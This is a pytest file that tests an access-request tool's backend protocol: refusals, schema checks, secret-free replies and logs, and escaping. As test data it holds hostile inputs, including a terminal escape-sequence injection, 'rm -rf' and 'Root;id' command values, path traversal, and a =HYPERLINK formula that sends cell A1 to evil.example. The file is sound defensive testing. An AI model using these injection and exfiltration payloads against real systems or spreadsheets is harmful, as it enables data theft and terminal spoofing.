"""The backend's protocol: schemas, refusals that keep the process up, no secret in replies."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from moc_tui.core.cron.activation import NOT_ACTIVATED
from moc_tui.core.journal import Journal
from moc_tui.core.settings import load_settings
from moc_tui.core.sheets import open_store
from moc_tui.devstack.keystone import LocalKeystone
from moc_tui.protocol.client import BackendClient, BackendError, dev_command
from moc_tui.protocol.wire import ProtocolError, validate
from tests.backend_settings import ADMIN_CANARY, local_settings
from tests.fixtures.keystone import KeystoneAdmin
from tests.raw_backend import RawBackend, values
from tests.reset_form import PIN
from tests.sample_rows import access_row
from tests.tab_names import FORM


@pytest.fixture
def config(tmp_path: Path) -> Path:
    return local_settings(
        tmp_path,
        [
            access_row(pin=PIN, first_name="Eve\x1b]2;PWNED\x07"),
            access_row(email="bob@example.org", timestamp="t2", new_project="bobs"),
        ],
    )


def test_refusals_keep_the_process_up(config: Path) -> None:
    backend = RawBackend(config)
    try:
        assert backend.call("list_access")["error"]["code"] == "hello_first"
        assert backend.call("hello", {"operator": "alice"})["ok"]
        cases = {
            b"not json": "malformed",
            b"[1, 2]": "malformed",
            b"\xff\xfe": "malformed",
            b'{"id": true, "op": "hello"}': "malformed",
            b'{"id": 1, "op": "hello", "extra": 1}': "malformed",
            b'{"id": 1, "op": "rm -rf"}': "unknown_op",
            b'{"id": 1, "op": "__init__"}': "unknown_op",
            b'{"id": 1, "op": "list_access", "params": []}': "bad_params",
            b'{"id": 1, "op": "list_access", "params": {"x": 1}}': "bad_params",
            b'{"id": 1, "op": "ack_error", "params": {"error_id": "1"}}': "bad_params",
            b'{"id": 1, "op": "ack_error", "params": {"error_id": true}}': "bad_params",
            b'{"id": 1, "op": "hello", "params": {"operator": "Root;id"}}': "bad_params",
            b'{"id": 1, "op": "audit_trail", "params": {"request_key": "../x"}}': "bad_params",
            b'{"id": 1, "op": "provision", "params": {"rows": []}}': "bad_params",
            b'{"id": 1, "op": "edit_access_field", "params": {"row": 2, "fingerprint": "'
            + b"0" * 64
            + b'", "field": "pin", "value": "1234"}}': "bad_params",
            b"x" * (70 * 1024): "too_large",
        }
        for raw, code in cases.items():
            answer = backend.send(raw)
            assert answer["ok"] is False and answer["error"]["code"] == code, (raw[:80], answer)
        # a refused request with a readable id is answered with that id
        assert backend.send(b'{"id": "r7", "op": "nope"}')["id"] == "r7"
        # still serving
        assert backend.call("hello", {"operator": "alice"})["result"]["operator"] == "alice"
    finally:
        status, stderr = backend.close()
    assert status == 0
    assert ADMIN_CANARY.encode() not in stderr


def test_list_never_carries_the_pin_or_raw_cells(config: Path) -> None:
    backend = RawBackend(config)
    try:
        backend.call("hello", {"operator": "alice"})
        answer = backend.call("list_access")
    finally:
        backend.close()
    requests = answer["result"]["requests"]
    assert [r["row"] for r in requests] == [2, 3]
    assert PIN not in values(answer) and "cells" not in requests[0] and "pin" not in requests[0]
    assert requests[0]["pin_provided"] is True
    assert requests[0]["first_name"] == "Eve\\x1b]2;PWNED\\x07"  # escaped, never raw
    assert all(b"\x1b" not in line and ADMIN_CANARY.encode() not in line for line in backend.lines)
    assert all(line.isascii() for line in backend.lines)


def test_edit_is_written_raw_after_the_row_is_rechecked(config: Path, tmp_path: Path) -> None:
    store = open_store(load_settings(config).access_sheet)
    with BackendClient(dev_command(config)) as client:
        client.call("hello", {"operator": "alice"})
        [first, second] = client.call("list_access")["requests"]
        formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
        edited = client.call(
            "edit_access_field",
            {
                "row": 3,
                "fingerprint": second["fingerprint"],
                "field": "description",
                "value": formula,
            },
        )["request"]
        assert edited["description"] == formula and "description" in edited["formulas"]
        assert edited["fingerprint"] != second["fingerprint"]
        assert store.read_tabs([FORM])[FORM][2][16] == formula  # stored as typed text
        # the old fingerprint is stale now: refused, nothing written
        with pytest.raises(BackendError) as stale:
            client.call(
                "edit_access_field",
                {
                    "row": 3,
                    "fingerprint": second["fingerprint"],
                    "field": "description",
                    "value": "other",
                },
            )
        assert stale.value.code == "row_changed"
        with pytest.raises(BackendError) as hidden:
            client.call(
                "edit_access_field",
                {
                    "row": 2,
                    "fingerprint": first["fingerprint"],
                    "field": "first_name",
                    "value": "Eve\u202e",
                },
            )
        assert hidden.value.code == "bad_value"
        trail = client.call("audit_trail", {"request_key": second["request_key"]})["records"]
        assert [(r["operator"], r["action"]) for r in trail] == [("alice", "edit")]
    assert store.read_tabs([FORM])[FORM][2][16] == formula


def test_backend_refuses_unsafe_settings(config: Path, tmp_path: Path) -> None:
    config.chmod(0o640)
    backend = RawBackend(config)
    status, _ = backend.close()
    line = backend.proc.stdout.read() if backend.proc.stdout else b""
    assert status == 78
    error = json.loads(line)["error"]
    assert error["code"] == "startup" and "chmod 600" in error["message"]
    assert ADMIN_CANARY not in error["message"]
    config.chmod(0o600)
    link = tmp_path / "link.ini"
    link.symlink_to(config)
    backend = RawBackend(link)
    status, _ = backend.close()
    assert status == 78


def test_config_option_is_refused_under_sudo(config: Path) -> None:
    backend = RawBackend(config, env={"PATH": "/usr/bin:/bin", "SUDO_USER": "helpdesk"})
    status, stderr = backend.close()
    assert status == 64 and b"not accepted under sudo" in stderr


def test_an_internal_failure_is_a_short_reply_and_a_logged_traceback(
    config: Path, tmp_path: Path
) -> None:
    with BackendClient(dev_command(config)) as client:
        client.call("hello", {"operator": "alice"})
        [_, second] = client.call("list_access")["requests"]
        # the cloud is unreachable (port 9): planning fails inside the core
        with pytest.raises(BackendError) as failed:
            client.call("plan_access", {"rows": [{"row": 3, "fingerprint": second["fingerprint"]}]})
        assert failed.value.code == "internal" and "ref" in failed.value.message
        assert "Traceback" not in failed.value.message
        errors = client.call("list_errors")["errors"]
        assert errors and "plan_access" in errors[0]["message"]
        assert client.call("ack_error", {"error_id": errors[0]["id"]}) == {"acknowledged": True}
        assert client.call("list_errors")["errors"] == []
    log = (tmp_path / "state" / "backend.log").read_text()
    assert "Traceback" in log and ADMIN_CANARY not in log
    assert (tmp_path / "state" / "backend.log").stat().st_mode & 0o777 == 0o600


def test_one_client_many_threads(config: Path) -> None:
    from concurrent.futures import ThreadPoolExecutor

    events: list[str] = []
    with BackendClient(dev_command(config), on_event=lambda e: events.append(e["kind"])) as c:
        assert c.call("hello", {"operator": "alice"})["operator"] == "alice"
        with pytest.raises(BackendError) as other:
            c.call("hello", {"operator": "mallory"})
        assert other.value.code == "bad_params"
        with ThreadPoolExecutor(8) as pool:
            results = list(pool.map(lambda _: c.call("list_access"), range(24)))
    assert all([r["row"] for r in result["requests"]] == [2, 3] for result in results)
    assert events == []


def test_users_who_never_activated_are_listed(config: Path) -> None:
    settings = load_settings(config)
    journal = Journal(settings.state_dir / "journal.sqlite3")
    journal.step_done(
        "access-" + "0" * 20,
        NOT_ACTIVATED,
        {
            "user_id": "u1",
            "username": "eve\x1b]2;x\x07@example.org",
            "reminders": 2,
            "reason": "expired",
        },
    )
    journal.close()
    with BackendClient(dev_command(config)) as client:
        client.call("hello", {"operator": "alice"})
        [user] = client.call("list_not_activated")["users"]
    assert (user["username"], user["reminders"], user["reason"]) == (
        "eve\\x1b]2;x\\x07@example.org",
        2,
        "expired",
    )


# -- look-ups while typing: suggest_projects, find_users --------------------------------------


@pytest.mark.parametrize(
    ("op", "params"),
    [
        ("suggest_projects", {}),
        ("suggest_projects", {"text": 5}),
        ("suggest_projects", {"text": "p" * 65}),
        ("suggest_projects", {"text": "lab", "domain": "admin"}),
        ("find_users", {}),
        ("find_users", {"text": None}),
        ("find_users", {"text": "a" * 255}),
        ("find_users", {"text": "al", "limit": 1000}),
    ],
)
def test_lookup_schemas_refuse_bad_params(op: str, params: dict[str, Any]) -> None:
    with pytest.raises(ProtocolError) as refused:
        validate(op, params)
    assert refused.value.code == "bad_params"


def test_lookup_schemas_accept_their_bounds() -> None:
    assert validate("suggest_projects", {"text": "p" * 64}) == {"text": "p" * 64}
    assert validate("suggest_projects", {"text": ""}) == {"text": ""}
    assert validate("find_users", {"text": "a" * 254}) == {"text": "a" * 254}


def test_lookups_refuse_plainly_without_an_internal_error(config: Path) -> None:
    """Too short, empty, Keystone down (port 9): plain refusals; nothing in the errors log."""
    with BackendClient(dev_command(config)) as client:
        assert "find_users" in client.call("hello", {"operator": "alice"})["ops"]
        assert client.call("suggest_projects", {"text": "  "}) == {"suggestions": []}
        with pytest.raises(BackendError) as short:
            client.call("find_users", {"text": " a "})
        assert short.value.code == "bad_params"
        assert short.value.message == (
            "type at least 2 characters of the user's name or email to search"
        )
        for op in ("suggest_projects", "find_users"):
            with pytest.raises(BackendError) as down:
                client.call(op, {"text": "alice"})
            assert down.value.code == "unavailable", op
            assert "cannot reach http://127.0.0.1:9" in down.value.message
            assert ADMIN_CANARY not in down.value.message
        assert client.call("list_errors")["errors"] == []


@pytest.mark.keystone
def test_lookups_against_keystone_are_sanitised_views(
    tmp_path: Path,
    keystone: LocalKeystone,
    keystone_admin: KeystoneAdmin,
    unique_name: Callable[[str], str],
) -> None:
    creds = keystone.admin_credentials()
    tag = unique_name("look")
    path = local_settings(tmp_path, [])
    text = path.read_text().replace("http://127.0.0.1:9/v3", creds["auth_url"])
    text = text.replace(ADMIN_CANARY, creds["password"])
    path.write_text(text + f"\n[project_aliases]\n{tag}-old = {tag}-lab\n")
    client_ks = keystone_admin.client
    keystone_admin.cleanup(client_ks.projects.create(name=f"{tag}-lab", domain="default"))
    user = client_ks.users.create(
        name=f"{tag}-eve@example.org",
        domain="default",
        email=f"{tag}-eve@example.org",
        description="Eve\x1b]2;PWNED\x07",
        enabled=False,
    )
    keystone_admin.cleanup(user)
    with BackendClient(dev_command(path)) as client:
        client.call("hello", {"operator": "alice"})
        found = client.call("suggest_projects", {"text": f"{tag}-la"})["suggestions"]
        assert found == [
            {"name": f"{tag}-lab", "source": "keystone", "target": f"{tag}-lab"},
            {"name": f"{tag}-old", "source": "alias", "target": f"{tag}-lab"},
        ]
        assert client.call("suggest_projects", {"text": "admin"})["suggestions"] == []
        users = client.call("find_users", {"text": tag.upper()})["users"]
        assert users == [
            {"name": f"{tag}-eve@example.org", "email": f"{tag}-eve@example.org", "enabled": False}
        ]
        assert client.call("find_users", {"text": creds["username"]})["users"] == []
